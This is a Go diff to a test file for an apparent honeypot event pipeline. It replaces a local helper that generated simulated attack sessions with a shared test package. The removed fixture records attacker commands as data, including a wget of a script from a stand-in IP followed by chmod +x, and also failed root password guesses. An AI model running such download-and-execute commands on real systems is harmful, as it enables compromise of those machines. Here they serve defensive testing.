@@ -2,7 +2,6 @@ package pipeline
 
 import (
 	"context"
-	"fmt"
 	"path/filepath"
 	"sync"
 	"testing"
@@ -10,6 +9,7 @@ import (
 
 	"github.com/decnet-go/decnet/internal/bus"
 	"github.com/decnet-go/decnet/internal/event"
+	"github.com/decnet-go/decnet/internal/event/eventtest"
 	"github.com/decnet-go/decnet/internal/store"
 )
 
@@ -47,39 +47,6 @@ func newRig(tb testing.TB) *rig {
 	return r
 }
 
-// mix returns n events shaped like a real attack wave: sessions from many
-// sources, each a connect, a few password guesses, commands and a disconnect.
-func mix(n int) []event.Event {
-	out := make([]event.Event, 0, n)
-	for s := 0; len(out) < n; s++ {
-		ip := fmt.Sprintf("198.51.%d.%d", s/250%250, s%250+1)
-		decky := fmt.Sprintf("decky-%02d", s%8+1)
-		svc := []string{"ssh", "http", "ssh", "telnet"}[s%4]
-		sess := event.NewID()
-		mk := func(typ string) event.Event {
-			e := event.New(decky, svc, typ)
-			e.SrcIP, e.SrcPort, e.DstIP, e.DstPort, e.Proto, e.Session = ip, 40000+s%20000, "10.0.0.5", 22, "tcp", sess
-			return e
-		}
-		out = append(out, mk(event.TypeConnect))
-		for i := 0; i < 3; i++ {
-			e := mk(event.TypeLoginAttempt)
-			e.Fields = map[string]any{"username": "root", "method": "password", "client_version": "SSH-2.0-libssh_0.9.6"}
-			e.Credential = event.NewCredential("root", "plaintext", []byte(fmt.Sprintf("pass%d", (s+i)%50)), event.OutcomeFailure)
-			out = append(out, e)
-		}
-		for _, c := range []string{"uname -a", "cat /proc/cpuinfo", "cd /tmp; wget http://203.0.113.7/x.sh", "chmod +x x.sh"} {
-			e := mk(event.TypeCommand)
-			e.Fields = map[string]any{"command": c, "cwd": "/root", "username": "root"}
-			out = append(out, e)
-		}
-		e := mk(event.TypeDisconnect)
-		e.Fields = map[string]any{"duration_s": 12.5, "bytes_in": 913}
-		out = append(out, e)
-	}
-	return out[:n]
-}
-
 // publish sends events the way sensors do, through an Emitter, and waits
 // until the bus has stored them all.
 func (r *rig) publish(tb testing.TB, events []event.Event) {
@@ -109,7 +76,7 @@ func (r *rig) waitIngested(tb testing.TB, n int64) {
 
 func TestIngestEndToEnd(t *testing.T) {
 	r := newRig(t)
-	events := mix(90) // 10 sessions
+	events := eventtest.AttackWave(90) // 10 sessions
 	r.publish(t, events)
 	r.waitIngested(t, int64(len(events)))
 	ctx := context.Background()
@@ -152,7 +119,7 @@ func TestIngestDiscardsInvalid(t *testing.T) {
 	r := newRig(t)
 	bad := event.New("decky-01", "ssh", "connect")
 	bad.SrcIP = "not-an-ip"
-	good := mix(1)
+	good := eventtest.AttackWave(1)
 	if err := r.bus.Publish(context.Background(), bad); err != nil {
 		t.Fatal(err)
 	}
@@ -171,7 +138,7 @@ func TestIngestDiscardsInvalid(t *testing.T) {
 // b.N events of a realistic mix, wait until all are committed.
 func BenchmarkIngest(b *testing.B) {
 	r := newRig(b)
-	events := mix(b.N)
+	events := eventtest.AttackWave(b.N)
 	b.ResetTimer()
 	start := time.Now()
 	r.publish(b, events)
